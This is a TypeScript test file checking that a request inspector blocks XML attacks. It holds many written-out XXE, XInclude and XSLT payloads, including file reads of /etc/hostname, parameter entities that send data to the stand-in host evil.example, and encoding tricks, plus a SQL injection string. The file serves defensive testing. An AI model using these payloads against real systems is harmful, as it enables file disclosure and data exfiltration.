import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { inspect } from '../src/inspect.ts'

/** Declarations that make a parser read something that the sender names, or something without end. */
const DECLARATIONS: Readonly<Record<string, string>> = {
  'a file': '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]>',
  'a relative file': '<!DOCTYPE r [<!ENTITY x SYSTEM "web.xml">]>',
  'a public id': '<!DOCTYPE r [<!ENTITY x PUBLIC "any" "file:///etc/hostname">]>',
  'a parameter entity': '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
  'an external subset': '<!DOCTYPE r SYSTEM "http://evil.example/x.dtd">',
  'an external subset by its public id': '<!DOCTYPE r PUBLIC "-//X//Y//EN" "http://evil.example/x.dtd">',
  'a subset in a file': '<!DOCTYPE r SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">',
  'a local subset redefined':
    '<!DOCTYPE r [<!ENTITY % l SYSTEM "file:///usr/share/xml/fontconfig/fonts.dtd"><!ENTITY % expr \'a)>&#x25;x;<!ELEMENT b (c\'> %l;]>',
  'entities in entities': '<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY x "&b;&b;&b;">]>',
  'entities of parameters':
    '<!DOCTYPE r [<!ENTITY % a "<!ENTITY &#37; b SYSTEM \'http://evil.example/?%f;\'>"> %a; %b;]>',
  'a declaration in lower case': '<!doctype r [<!entity x system "file:///etc/hostname">]>',
  'line ends and tabs': '<!DOCTYPE\n\tr\n[\n<!ENTITY\n\tx\n\tSYSTEM\n"file:///etc/hostname">\n]>',
  'a comment before': '<!-- c --><!DOCTYPE r [<!-- d --><!ENTITY x SYSTEM "file:///etc/hostname">]>',
  'an element declared before': '<!DOCTYPE r [<!ELEMENT r ANY><!ENTITY x SYSTEM "expect://id">]>',
  'an attribute list': '<!DOCTYPE r [<!ATTLIST r a CDATA "b"><!ENTITY x SYSTEM "php://filter/resource=x">]>',
  'a notation': '<!DOCTYPE r [<!NOTATION n SYSTEM "x"><!ENTITY x SYSTEM "http://evil.example/" NDATA n>]>',
  'a name beyond ASCII': '<!DOCTYPE r [<!ENTITY \u00e9 SYSTEM "file:///etc/hostname">]>',
}

const CARRIERS: Readonly<Record<string, readonly [type: string, (declaration: string) => string]>> = {
  XML: ['application/xml', d => `<?xml version="1.0"?>${d}<r>&x;</r>`],
  'text/xml': ['text/xml', d => `${d}<r>&x;</r>`],
  SOAP: [
    'application/soap+xml',
    d =>
      `<?xml version="1.0" encoding="utf-8"?>\n${d}\n<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body><a>&x;</a></s:Body></s:Envelope>`,
  ],
  RSS: [
    'application/rss+xml',
    d =>
      `<?xml version="1.0"?>${d}<rss version="2.0"><channel><title>&x;</title><item><link>https://a.example</link></item></channel></rss>`,
  ],
  SVG: [
    'image/svg+xml',
    d =>
      `<?xml version="1.0" standalone="yes"?>${d}<svg xmlns="http://www.w3.org/2000/svg" width="9"><text>&x;</text></svg>`,
  ],
  'no type': ['', d => `${d}<r>&x;</r>`],
  'JSON by its label': ['application/json', d => `<?xml version="1.0"?>${d}<r>&x;</r>`],
  'text by its label': ['text/plain', d => `\n  <?xml version="1.0"?>${d}<r>&x;</r>`],
}

function verdictOf(type: string, body: string | Uint8Array): string {
  return inspect({
    method: 'POST',
    target: '/import',
    headers: type === '' ? [] : ['content-type', type],
    body: typeof body === 'string' ? Buffer.from(body) : body,
  }).verdict
}

const FILE = CARRIERS['XML']?.[1](DECLARATIONS['a file'] ?? '') ?? ''

function inUtf16(text: string, order: 'le' | 'be', mark: '' | '\ufeff'): Buffer {
  const bytes = Buffer.from(`${mark}${text}`, 'utf16le')
  return order === 'le' ? bytes : bytes.swap16()
}

function inUtf32(text: string, order: 'le' | 'be'): Buffer {
  const bytes = Buffer.alloc(text.length * 4)
  for (let i = 0; i < text.length; i++) {
    if (order === 'le') bytes.writeUInt32LE(text.charCodeAt(i), i * 4)
    else bytes.writeUInt32BE(text.charCodeAt(i), i * 4)
  }
  return bytes
}

/** The signs of markup as UTF-7 writes them (RFC 2152). */
function inUtf7(text: string): string {
  const prolog = '<?xml version="1.0" encoding="UTF-7"?>'
  const signs: Readonly<Record<string, string>> = { '<': '+ADw-', '>': '+AD4-', '!': '+ACE-', '"': '+ACI-' }
  return prolog + text.slice(text.indexOf('?>') + 2).replace(/[<>!"]/g, sign => signs[sign] ?? sign)
}

/** Code page 37 of EBCDIC, for the characters of `FILE`. */
function inEbcdic(text: string): Buffer {
  const table: Record<string, number> = {}
  const rows: readonly (readonly [string, number])[] = [
    ['abcdefghi', 0x81],
    ['jklmnopqr', 0x91],
    ['stuvwxyz', 0xa2],
    ['ABCDEFGHI', 0xc1],
    ['JKLMNOPQR', 0xd1],
    ['STUVWXYZ', 0xe2],
    ['0123456789', 0xf0],
  ]
  for (const [letters, first] of rows)
    for (const [i, letter] of [...letters].entries()) table[letter] = first + i
  const signs = { ' ': 0x40, '<': 0x4c, '>': 0x6e, '?': 0x6f, '!': 0x5a, '"': 0x7f, '=': 0x7e, '/': 0x61 }
  Object.assign(table, signs, { ':': 0x7a, '.': 0x4b, '[': 0xba, ']': 0xbb, '&': 0x50, ';': 0x5e, '-': 0x60 })
  return Buffer.from([...text].map(letter => table[letter] ?? 0x40))
}

const ENCODED: Readonly<Record<string, string | Uint8Array>> = {
  'UTF-16, little endian, with a mark': inUtf16(FILE, 'le', '\ufeff'),
  'UTF-16, big endian, with a mark': inUtf16(FILE, 'be', '\ufeff'),
  'UTF-16, little endian, without a mark': inUtf16(FILE, 'le', ''),
  'UTF-16, big endian, without a mark': inUtf16(FILE, 'be', ''),
  'UTF-32, little endian': inUtf32(FILE, 'le'),
  'UTF-32, big endian': inUtf32(FILE, 'be'),
  'UTF-8 with a mark': `\ufeff${FILE}`,
  'UTF-7': inUtf7(FILE),
  EBCDIC: inEbcdic(FILE.replace('version="1.0"', 'version="1.0" encoding="cp037"')),
  'the start in ASCII, the rest in UTF-16': Buffer.concat([
    Buffer.from('<?xml version="1.0" encoding="UTF-16LE"?>'),
    Buffer.from(FILE.slice(FILE.indexOf('?>') + 2), 'utf16le'),
  ]),
}

const INCLUDED: readonly string[] = [
  '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hostname"/></r>',
  '<r xmlns:q="http://www.w3.org/2001/XInclude"><q:include href="http://evil.example/"/></r>',
  '<include xmlns="http://www.w3.org/2001/XInclude" href="http://evil.example/"/>',
  '<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?><r/>',
  '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:value-of select="document(\'http://evil.example/\')"/></xsl:template></xsl:stylesheet>',
  '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:include href="http://evil.example/x.xsl"/></xsl:stylesheet>',
  '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl"><xsl:template match="/"><xsl:value-of select="php:function(\'readfile\',\'index.php\')"/></xsl:template></xsl:stylesheet>',
  '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime" version="1.0"><xsl:template match="/"><xsl:variable name="o" select="rt:getRuntime()"/></xsl:template></xsl:stylesheet>',
  '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:msxsl="urn:schemas-microsoft-com:xslt" xmlns:u="urn:x"><msxsl:script language="C#" implements-prefix="u">public string x(){return "";}</msxsl:script></xsl:stylesheet>',
  '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:ex="http://exslt.org/common" extension-element-prefixes="ex"><xsl:template match="/"><ex:document href="/tmp/x">a</ex:document></xsl:template></xsl:stylesheet>',
  '<r xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="http://evil.example/x.xsd"/>',
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="expect://id"/></svg>',
  '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"><ds:Transform xmlns:ds="http://www.w3.org/2000/09/xmldsig#" Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/"><xsl:value-of select="unparsed-text(\'/etc/hostname\')"/></xsl:template></xsl:stylesheet></ds:Transform></samlp:Response>',
]

describe('entities of XML and what else makes a parser fetch', () => {
  const documents = Object.entries(DECLARATIONS).flatMap(([declared, declaration]) =>
    Object.entries(CARRIERS).map(([carrier, [type, write]]) => ({
      name: `${declared} in ${carrier}`,
      verdict: () => verdictOf(type, write(declaration)),
    })),
  )

  test(`${documents.length} documents that declare something`, () => {
    assert.deepEqual(
      documents.filter(({ verdict }) => verdict() === 'pass').map(({ name }) => name),
      [],
    )
  })

  for (const [name, body] of Object.entries(ENCODED)) {
    test(`a document in ${name}`, () => {
      assert.equal(verdictOf('application/xml', body), 'block')
      assert.equal(verdictOf('', body), 'block')
    })
  }

  for (const document of INCLUDED) {
    test(`refuses ${document.slice(0, 160)}`, () => {
      assert.equal(verdictOf('application/xml', document), 'block')
    })
  }

  test('a document in a field of another', () => {
    const escaped = FILE.replace(/&/g, '&amp;').replace(/</g, '&lt;')
    for (const [type, body] of [
      ['application/x-www-form-urlencoded', `xml=${encodeURIComponent(FILE)}`],
      [
        'application/x-www-form-urlencoded',
        `SAMLResponse=${encodeURIComponent(Buffer.from(FILE).toString('base64'))}`,
      ],
      ['application/json', JSON.stringify({ config: FILE })],
      ['application/json', JSON.stringify({ config: Buffer.from(FILE).toString('base64') })],
      ['application/xml', `<r><inner>${escaped}</inner></r>`],
      ['application/xml', `<r><inner><![CDATA[${FILE}]]></inner></r>`],
      [
        'multipart/form-data; boundary=b',
        `--b\r\nContent-Disposition: form-data; name="x"\r\n\r\n${FILE}\r\n--b--\r\n`,
      ],
      [
        'multipart/form-data; boundary=b',
        `--b\r\nContent-Disposition: form-data; name="x"; filename="a.xml"\r\nContent-Type: text/xml\r\n\r\n${FILE}\r\n--b--\r\n`,
      ],
      [
        'multipart/form-data; boundary=b',
        `--b\r\nContent-Disposition: form-data; name="x"; filename="a.svg"\r\nContent-Type: image/svg+xml\r\n\r\n${FILE}\r\n--b--\r\n`,
      ],
    ] as const)
      assert.equal(verdictOf(type, body), 'block', `${type} ${body.slice(0, 60)}`)
  })

  test('documents that declare nothing of the kind', () => {
    for (const document of [
      '<?xml version="1.0"?><!DOCTYPE html><html xmlns="http://www.w3.org/1999/xhtml"><p>a</p></html>',
      '<?xml version="1.0"?><r xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:nil="true"/>',
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href="#a"/></svg>',
      '<rss version="2.0"><channel><title>A &amp; B</title></channel></rss>',
    ]) {
      assert.equal(verdictOf('application/xml', document), 'pass', document)
      assert.equal(verdictOf('application/xml', inUtf16(document, 'le', '')), 'pass', document)
    }
  })
})

test('a few control characters do not make bytes of what is called a text', () => {
  const attack = "1' or '1'='1"
  for (const [type, body] of [
    ['application/json', `{"id":"${attack}\u0000"}`],
    ['', `{"id":"\u0001${attack}"}`],
    ['text/plain', `\u0000${attack}`],
    ['application/xml', `<id>${attack}\u0000</id>`],
  ] as const)
    assert.equal(verdictOf(type, body), 'block', type)
})
